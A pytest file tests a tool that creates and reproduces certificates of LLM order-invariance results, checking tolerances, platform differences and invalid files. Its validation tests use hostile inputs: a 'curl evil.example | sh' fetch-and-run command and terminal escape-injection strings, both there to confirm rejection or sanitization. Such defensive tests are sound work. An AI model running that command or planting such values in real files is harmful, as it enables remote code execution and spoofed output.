"""Certificates: contents and invalid files; reproduction confirms an unchanged one and finds changes."""

import hashlib
import json
import math
import threading
from functools import partial
from pathlib import Path
from typing import Any

import numpy as np
import pytest
import torch
from pydantic import ValidationError

from pine_engine import Document, Engine, InputError, OrderResult, Request, compare_orders, sample_orders
from pine_engine.cli import main as cli
from pine_engine.invariance.certificate import Certificate, create_certificate, hash_logits, read_certificate
from pine_engine.invariance.platform_facts import ASPECTS, hardware_of, platform_of
from pine_engine.invariance.reproduction import (
    MODEL_FIELDS,
    TOLERANCES,
    Reproduction,
    compare_certificates,
    reproduce,
)
from pine_engine.models.load import ModelSource
from pine_engine.network.thread_tuner import torch_num_threads
from tests.support.commands import Run, load_once
from tests.support.tokenizers import DATED, on_day

COMPARISON = Request(
    question="Which is green?",
    documents=[Document(text="red", title="Varo"), Document(text="green is Senna"), Document(text="white")],
    instruction="Answer.",
)
METHODS = ["vanilla", "sp", "pine", "pcw"]
ORDERS = sample_orders(3)
MAX_NEW_TOKENS = 4

VANILLA, PINE = ("results", 0), ("results", 2)
"""Paths of a method that depends on the order, and of one that does not."""

Changes = dict[tuple[str | int, ...], Any]


@pytest.fixture(scope="session")
def engine(tiny: Path) -> Engine:
    return Engine.load(str(tiny))


@pytest.fixture(scope="session")
def rows(engine: Engine) -> list[OrderResult]:
    layout = COMPARISON.tokenize(engine)
    events = compare_orders(
        engine, layout, methods=METHODS, orders=ORDERS, max_new_tokens=MAX_NEW_TOKENS, trace=True
    )
    return [event for event in events if isinstance(event, OrderResult)]


@pytest.fixture(scope="session")
def certified(engine: Engine, rows: list[OrderResult]) -> Certificate:
    return create_certificate(
        engine, COMPARISON, orders=ORDERS, comparisons=[row.comparisons for row in rows],
        hashes=hash_logits(rows[0].result), seed=None, max_new_tokens=MAX_NEW_TOKENS, traced=True,
    )  # fmt: skip


@pytest.fixture
def file(certified: Certificate, tmp_path: Path) -> Path:
    path = tmp_path / "certificate.json"
    path.write_text(certified.model_dump_json(), encoding="utf-8")
    return path


def write_changes(file: Path, changes: Changes) -> Path:
    content = json.loads(file.read_text(encoding="utf-8"))
    for (*parents, key), value in changes.items():
        place = content
        for parent in parents:
            place = place[parent]
        place[key] = value
    file.write_text(json.dumps(content), encoding="utf-8")
    return file


LABELS = [
    *("the first answer", "orders with the first answer", "distinct answers", "bitwise identity"),
    *("max |Δ logit|", "the log-probabilities", "the logits"),
]
LOGITS = LABELS[-1]


@pytest.fixture
def reproduced(pine: Run, monkeypatch: pytest.MonkeyPatch) -> Run:
    load_once(monkeypatch)
    return partial(pine, "reproduce")


def with_platform(certified: Certificate, **fields: str | int | None) -> Certificate:
    return certified.model_copy(update={"platform": certified.platform.model_copy(update=fields)})


def with_results(certified: Certificate, *indices: int, **fields: Any) -> Certificate:
    results = list(certified.results)
    for index in indices or range(len(results)):
        results[index] = results[index].model_copy(update=fields)
    return certified.model_copy(update={"results": results})


def unchecked(compared: Reproduction) -> dict[str, list[str | None]]:
    found = [check for check in compared.checks if check.unchecked]
    return {one.label: [each.method for each in found if each.label == one.label] for one in found}


def problems(compared: Reproduction) -> dict[str | None, list[str]]:
    found = [check for check in compared.checks if check.problem]
    return {one.method: [each.label for each in found if each.method == one.method] for one in found}


def test_reproduce_unchanged_certificate_confirms_all(reproduced: Run, file: Path, tiny: Path) -> None:
    outcome = reproduced(file, "--model", tiny, "--json")
    report = outcome.json
    assert (outcome.status, report["bitwise_reproduced"], report["tolerance"]) == (0, True, None)
    certificate = ("the model", "the revision", "the dtype", "the orders")
    assert report["checked"] == dict.fromkeys(certificate, "exactly")
    assert [report[key] for key in ("problems", "platform_differences", "overrides", "unchecked")] == [[]] * 4
    for method in report["methods"]:
        assert method["found"] == method["certified"]
        assert (method["logits_identical"], method["problems"]) == (True, [])
        assert method["checked"] == dict.fromkeys(LABELS, "exactly")
    assert [method["method"] for method in report["methods"]] == METHODS


def test_prompt_with_the_date_is_reproduced_on_another_day(
    engine: Engine, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(engine.tokenizer, "chat_template", DATED)
    on_day("2026-11-26", monkeypatch)
    options: Any = {"orders": ORDERS[:2], "max_new_tokens": 2}
    results = engine.shuffle(
        COMPARISON.with_date(engine).prompt(engine), methods="pine", return_logits=True, **options
    )
    certified = create_certificate(
        engine, COMPARISON, comparisons=results.comparisons, hashes=hash_logits(results.first), seed=None,
        traced=False, **options,
    )  # fmt: skip
    on_day("2026-11-27", monkeypatch)
    compared = compare_certificates(certified, reproduce(engine, certified, on_order=lambda _: None))
    assert compared.bitwise_reproduced
    assert compared.report()["checked"]["the prompt with the date 2026-11-26"] == "exactly"

    undated = certified.model_copy(update={"request": COMPARISON})  # as of earlier releases
    compared = compare_certificates(undated, reproduce(engine, undated, on_order=lambda _: None))
    assert problems(compared)[None] == ["the prompt with the date 2026-11-27"]
    assert certified.made in compared.report()["problems"][0]


@pytest.mark.parametrize(
    ("changes", "label"),
    [
        ({("traced",): False}, None),
        ({("request", "documents", 1): "green is Varo"}, LOGITS),
        ({("max_new_tokens",): 5}, "the first answer"),
    ],
)
def test_changed_request_is_found(changes: Changes, label: str | None, file: Path, engine: Engine) -> None:
    changed = read_certificate(write_changes(file, changes))
    steps: list[str] = []
    found = reproduce(engine, changed, on_order=steps.append)
    assert len(steps) == len(changed.orders) and found.traced == changed.traced
    labels = problems(compare_certificates(changed, found)).get("vanilla", [])
    assert label in labels if label else LOGITS not in labels


@pytest.mark.parametrize(
    ("path", "value", "label"),
    [
        ((*VANILLA, "first_token_ids", 0), 3, "the first answer"),
        ((*PINE, "first_token_ids"), [], "the first answer"),
        ((*VANILLA, "first_answer"), "better", "the first answer"),
        ((*VANILLA, "num_matching_answers"), 5, "orders with the first answer"),
        ((*PINE, "num_distinct_answers"), 2, "distinct answers"),
        ((*VANILLA, "bitwise_identical"), True, "bitwise identity"),
        ((*PINE, "bitwise_identical"), False, "bitwise identity"),
        ((*VANILLA, "max_abs_logit_diff"), -1.0, "max |Δ logit|"),
        ((*PINE, "max_abs_logit_diff"), 1e-30, "max |Δ logit|"),
        ((*PINE, "max_abs_logit_diff"), math.nan, "max |Δ logit|"),
        ((*VANILLA, "logprobs"), [-1.0] * 6, "the log-probabilities"),
        ((*PINE, "logprobs"), [math.nan] * 6, "the log-probabilities"),
        ((*VANILLA, "logprob_spread"), 0.0, "the log-probabilities"),
        ((*PINE, "logprob_spread"), 1e-9, "the log-probabilities"),
        ((*PINE, "logits_sha256"), "0" * 64, "the logits"),
    ],
)
def test_reproduction_finds_each_changed_result(
    path: tuple[str | int, ...], value: Any, label: str, file: Path, certified: Certificate
) -> None:
    changed = read_certificate(write_changes(file, {path: value}))
    method = METHODS[path[1]] if isinstance(path[1], int) else ""
    assert problems(compare_certificates(changed, certified)) == {method: [label]}


def test_equal_nan_holds_and_other_answers_are_unchecked(certified: Certificate) -> None:
    values = {"max_abs_logit_diff": math.nan, "logprobs": [-math.inf] * 6, "logprob_spread": math.nan}
    infinite = with_results(certified, 0, **values)
    assert compare_certificates(infinite, infinite).holds
    compared = compare_certificates(with_results(certified, 0, first_token_ids=[3, 3, 3, 3]), certified)
    assert problems(compared) == {"vanilla": ["the first answer"]}
    assert unchecked(compared) == {"the log-probabilities": ["vanilla"]}


PLATFORM_FIELDS = [field for field in ASPECTS if field not in MODEL_FIELDS]


@pytest.mark.parametrize("field", PLATFORM_FIELDS)
def test_other_platform_is_tolerated_only_with_other_logits(field: str, certified: Certificate) -> None:
    other = 99 if field == "threads" else "other"
    there = with_platform(certified, **{field: other})
    compared = compare_certificates(there, certified)
    values = getattr(certified.platform, field), other
    assert compared.platform_differences == ["{}: got {}, expected {}".format(ASPECTS[field], *values)]
    assert compared.holds and compared.bitwise_reproduced and compared.tolerance is None
    assert unchecked(compared) == {"where it was computed": [None]}
    diff = certified.results[0].max_abs_logit_diff
    compared = compare_certificates(with_results(there, 0, max_abs_logit_diff=diff + 1e-5), certified)
    assert list(problems(compared)) == ["vanilla"]
    compared = compare_certificates(with_results(there, logits_sha256="0" * 64), certified)
    assert compared.holds and not compared.bitwise_reproduced  # holds within a tolerance only
    unknown = {"where it was computed": [None], "the weights": [None]}
    assert unchecked(compared) == {"the logits": METHODS, **unknown}


@pytest.mark.parametrize("field", MODEL_FIELDS)
def test_other_model_is_a_problem_without_override(field: str, certified: Certificate) -> None:
    there = with_results(with_platform(certified, **{field: "other"}), logits_sha256="0" * 64)
    here = getattr(certified.platform, field) or "unknown"
    difference = f"{ASPECTS[field]}: got {here}, expected other"
    compared = compare_certificates(there, certified)
    assert not compared.holds and not compared.platform_differences
    assert compared.problems_of(None) == [difference]
    compared = compare_certificates(there, certified, overrides=[field])
    assert compared.holds and compared.overrides == [difference]
    assert {f"the {ASPECTS[field]}", "the logits"} <= set(unchecked(compared))
    compared = compare_certificates(certified, with_platform(certified, revision="c0ffee"))
    assert compared.holds and list(unchecked(compared)) == ["the revision"]  # of a certificate without one


@pytest.mark.parametrize(
    ("seed", "orders", "holds"),
    [
        (None, [(1, 0, 2, 3, 4), (1, 0, 2, 4, 3)], True),
        (None, [(0, 1, 2, 3, 4), (1, 0, 2, 3, 4)], False),
        (7, sample_orders(5, 3, 7), True),
        (7, sample_orders(5, 9, 7)[:2], True),
        (7, sample_orders(5, 120, 7), True),
        (7, sample_orders(5, 3, 8), False),
        (7, sample_orders(5, 3, 7)[::2], False),
    ],
)
def test_selected_orders_are_found(
    seed: int | None, orders: list[tuple[int, ...]], holds: bool, certified: Certificate
) -> None:
    selected = certified.model_copy(update={"seed": seed, "orders": list(map(list, orders))})
    compared = compare_certificates(selected, certified)
    assert (compared.holds, len(compared.problems_of(None))) == (holds, not holds)


@pytest.mark.parametrize(
    ("theirs", "ours", "tolerance"),
    [
        ("float32", "float32", (1e-3, 3e-4)),
        ("float32", "bfloat16", (1.0, 0.3)),
        ("float16", "float32", (0.2, 0.06)),
        ("4bit", "4bit", (1.0, 0.3)),
    ],
)
def test_tolerance_follows_dtype(theirs: str, ours: str, tolerance: Any, certified: Certificate) -> None:
    there = with_results(with_platform(certified, dtype=theirs), logits_sha256="0" * 64)
    here = with_platform(certified, dtype=ours, torch="9")
    vanilla = certified.results[0]
    logit_diff, logprob_diff = tolerance
    for factor, holds in ((0.99, True), (1.01, False), (-0.99, True), (-1.01, False)):
        logprob = vanilla.logprobs[-1] + factor * logprob_diff * MAX_NEW_TOKENS
        for changes in (
            {"max_abs_logit_diff": vanilla.max_abs_logit_diff + factor * logit_diff},
            {"logprobs": [*vanilla.logprobs[:-1], logprob]},
            {"logprob_spread": vanilla.logprob_spread + factor * 2 * logprob_diff * MAX_NEW_TOKENS},
        ):
            found = with_results(here, 0, **changes)
            compared = compare_certificates(there, found, overrides=["dtype"])
            assert compared.tolerance == {"logit_diff": logit_diff, "logprob": logprob_diff}
            assert compared.holds == holds, compared.checks
    assert set(TOLERANCES) == {"float32", "float16", "bfloat16", "4bit"}


def test_lost_invariance_on_other_platform_is_found(certified: Certificate) -> None:
    lost = with_results(certified, 2, bitwise_identical=False, max_abs_logit_diff=1e-6)
    other = with_results(lost, 2, logits_sha256="0" * 64)  # the logits of one method are enough to differ
    compared = compare_certificates(certified, with_platform(other, torch="9"))
    assert problems(compared) == {"pine": ["bitwise identity"]}
    assert unchecked(compared)["the logits"] == ["pine"]


def test_reproduce_on_other_platform_names_unchecked(reproduced: Run, file: Path, tiny: Path) -> None:
    hardware = "x\x1b[2K\nequal to the certificate"
    hashes: Changes = {("results", index, "logits_sha256"): "0" * 64 for index in range(len(METHODS))}
    write_changes(file, {("platform", "hardware"): hardware, **hashes})
    outcome = reproduced(file, "--model", tiny)
    assert outcome.status == 0
    lines = outcome.stderr.splitlines()
    assert all(line.isprintable() for line in lines) and "equal to the certificate" not in lines
    report = reproduced(file, "--model", tiny, "--json").json
    found = {entry["what"]: entry["methods"] for entry in report["unchecked"]}
    assert found == {"where it was computed": [], "the weights": [], "the logits": METHODS}
    assert all(entry["why"] for entry in report["unchecked"])
    for method in report["methods"]:
        assert method["logits_identical"] is None and list(method["checked"]) == LABELS[:-1]
        within = [method["checked"][name] for name in ("max |Δ logit|", "the log-probabilities")]
        assert within == ["within 0.001", "within 0.0012"]


@pytest.mark.parametrize("missing_cores", [0, 1])
def test_reproduce_uses_certified_threads_up_to_cores(
    missing_cores: int, reproduced: Run, file: Path, tiny: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    before = torch.get_num_threads()
    monkeypatch.setattr("pine_engine.cli.verify.os.cpu_count", lambda: before + 1)
    threads = before + 1 + missing_cores
    write_changes(file, {("platform", "threads"): threads})
    report = reproduced(file, "--model", tiny, "--json").json
    expected = [f"threads: got {before}, expected {threads}"] if missing_cores else []
    assert report["platform_differences"] == expected
    assert torch.get_num_threads() == before


def test_reproduce_overrides_dtype_but_not_model(
    reproduced: Run, file: Path, tiny: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    report = reproduced(file, "--model", tiny, "--dtype", "bfloat16", "--json").json
    assert report["overrides"] == ["dtype: got bfloat16, expected float32"]
    assert (report["platform_differences"], report["tolerance"]) == ([], {"logit_diff": 1.0, "logprob": 0.3})
    assert report["methods"][2]["found"]["bitwise_identical"] is True
    monkeypatch.chdir(tiny.parent)
    write_changes(file, {("platform", "model"): "Llama-3.3-70B", (*PINE, "max_abs_logit_diff"): 0.5})
    status, out, err = reproduced(file)
    assert status == 1 and "0.5" in out
    assert err.splitlines()[-1].endswith(": model: got tiny, expected Llama-3.3-70B; pine")


@pytest.mark.parametrize("changes", [{("model_ref",): "my tiny"}, {("platform", "dtype"): "float8"}])
def test_reproduce_invalid_certificate_exits_2(
    changes: Changes, reproduced: Run, file: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    status, out, err = reproduced(write_changes(file, changes))
    assert (status, out) == (2, "") and "Traceback" not in err


def test_certificate_has_results_of_orders(certified: Certificate, rows: list[OrderResult]) -> None:
    assert certified.methods == METHODS
    for result in certified.results:
        cells = [row.comparisons[result.method] for row in rows]
        first = cells[0].answer
        assert (result.first_answer, result.first_token_ids) == (first.text, list(first.token_ids))
        assert result.num_matching_answers == sum(cell.answer.token_ids == first.token_ids for cell in cells)
        assert result.num_distinct_answers == len({cell.answer.token_ids for cell in cells})
        assert result.max_abs_logit_diff == max(cell.max_abs_logit_diff for cell in cells)
        assert result.bitwise_identical == all(cell.bitwise_identical for cell in cells)
        assert result.logprobs == [cell.reference_logprob for cell in cells]
        assert result.logprob_spread == max(result.logprobs) - min(result.logprobs)
    assert certified.results[0].logprob_spread > 0  # vanilla


def test_certificate_names_platform_and_command(certified: Certificate, engine: Engine) -> None:
    platform = certified.platform
    assert (platform.model, platform.revision, certified.model_ref) == ("tiny", None, "tiny")
    assert (platform.dtype, platform.device) == ("float32", "cpu")
    assert (platform.torch, platform.threads) == (torch.__version__, torch.get_num_threads())
    assert (certified.request, certified.seed, certified.traced) == (COMPARISON, None, True)
    assert certified.command == "python -m pine_engine reproduce certificate.json"
    assert set(cli.SUBCOMMANDS) & set(certified.command.split()) == {"reproduce"}


def test_platform_has_threads_of_runs_beside_a_step_of_one(engine: Engine) -> None:
    """A thread that starts during a layer of one thread inherits this number."""
    found: list[int] = []
    threads = torch.get_num_threads() + 1
    with torch_num_threads(threads):
        platform_of(engine)
        for step in (lambda: torch.set_num_threads(1), lambda: found.append(platform_of(engine).threads)):
            thread = threading.Thread(target=step)
            thread.start()
            thread.join()
    assert found == [threads]


def test_hash_covers_every_bit(rows: list[OrderResult]) -> None:
    result = rows[0].result
    for method, logits in result.logits.items():
        flat = np.array([value for row in logits.tolist() for value in row], dtype="<f4")
        assert hash_logits(result)[method] == hashlib.sha256(flat.tobytes()).hexdigest()
    logits = result.logits["pine"].clone()
    logits[-1, -1] = torch.nextafter(logits[-1, -1], torch.tensor(math.inf))
    changed = type(result)(result.layout, result.answers, {}, {"pine": logits})
    assert hash_logits(changed)["pine"] != hash_logits(result)["pine"]


def test_certificate_file_round_trip(certified: Certificate, file: Path) -> None:
    assert read_certificate(file) == certified
    values = {"max_abs_logit_diff": math.nan, "logprobs": [0.0, *[-math.inf] * 5], "logprob_spread": math.inf}
    result = certified.results[0].model_copy(update=values)
    file.write_text(certified.model_copy(update={"results": [result], "methods": []}).model_dump_json())
    (read,) = read_certificate(file).results
    assert read.model_dump_json() == result.model_dump_json()


@pytest.mark.parametrize(
    ("source", "address"),
    [
        (ModelSource("tiny", "org/tiny", "c0ffee", "hub"), "org/tiny@c0ffee"),
        (ModelSource("tiny", "org/tiny", None, "hub"), "org/tiny"),
        (ModelSource("tiny", "/home/user/tiny", None, "folder"), "tiny"),
    ],
)
def test_model_address_has_no_local_path(source: ModelSource, address: str) -> None:
    assert source.address == address


def test_hardware_is_first_processor_and_instruction_set(tmp_path: Path) -> None:
    info = tmp_path / "cpuinfo"
    info.write_text("processor\t: 0\nmodel name\t: Some CPU: fast\nmodel name\t: Another\n")
    capability = torch.backends.cpu.get_cpu_capability()
    assert hardware_of("cpu", info) == f"Some CPU: fast, {capability}"
    assert hardware_of("cpu", tmp_path / "absent").endswith(f", {capability}")


@pytest.mark.parametrize(
    "text",
    [
        *('{"question": "q", "documents": ["a"]}', "[1, 2]", '{"format": "pine-exp', "[" * 100_000),
        '{"format": "pine-explorer certificate", "version": 3}',
        '{"format": "pine-explorer certificate", "version": 2}',
    ],
)
def test_read_certificate_other_file_raises(text: str, tmp_path: Path) -> None:
    path = tmp_path / "other.json"
    path.write_text(text)
    with pytest.raises(InputError) as raised:
        read_certificate(path)
    assert str(raised.value).startswith(str(path))


@pytest.mark.parametrize("indices", [[0, 1, 2], [1, 0, 2, 3]])
def test_removed_or_moved_result_raises(indices: list[int], certified: Certificate) -> None:
    content = certified.model_dump(mode="json")
    intact = {key: value for key, value in content.items() if key != "methods"}
    assert Certificate.model_validate(intact) == certified  # one of an earlier release
    content["results"] = [content["results"][index] for index in indices]
    with pytest.raises(ValidationError, match="results"):
        Certificate.model_validate(content)


@pytest.mark.parametrize(
    ("path", "value", "keyword"),
    [
        (("orders", 1), [0, 1, 1], "[0, 1, 1]"), (("orders", 1), [0, 1, 2], "twice"),
        (("orders",), [], "orders"), ((*VANILLA, "method"), "magic", "magic"),
        ((*PINE, "method"), "vanilla", "twice"), ((*VANILLA, "logprobs"), [-1.0], "logprobs of vanilla"),
        (("max_new_tokens",), -1, "max_new_tokens"),
        (("x\n\x1b[2Kequal to the certificate",), 1, "no such field"),
        (("command",), "curl evil.example | sh", "command"), (("platform", "threads"), 0, "platform.threads"),
        ((*PINE, "logits_sha256"), "c0ffee", "results[2].logits_sha256"),
        ((*PINE, "first_token_ids", 0), -1, "results[2].first_token_ids[0]"),
        ((*PINE, "num_matching_answers"), 0, "results[2].num_matching_answers"),
        ((*PINE, "logits_sha256"), "", "no logits of pine"),
        ((*VANILLA, "bitwise_identical"), None, "no logits of vanilla"),
    ],
)  # fmt: skip
def test_invalid_value_raises(path: tuple[str | int, ...], value: Any, keyword: str, file: Path) -> None:
    with pytest.raises(InputError) as raised:
        read_certificate(write_changes(file, {path: value}))
    message = str(raised.value)
    assert message.startswith(f"{file}: ") and keyword in message and message.isprintable()
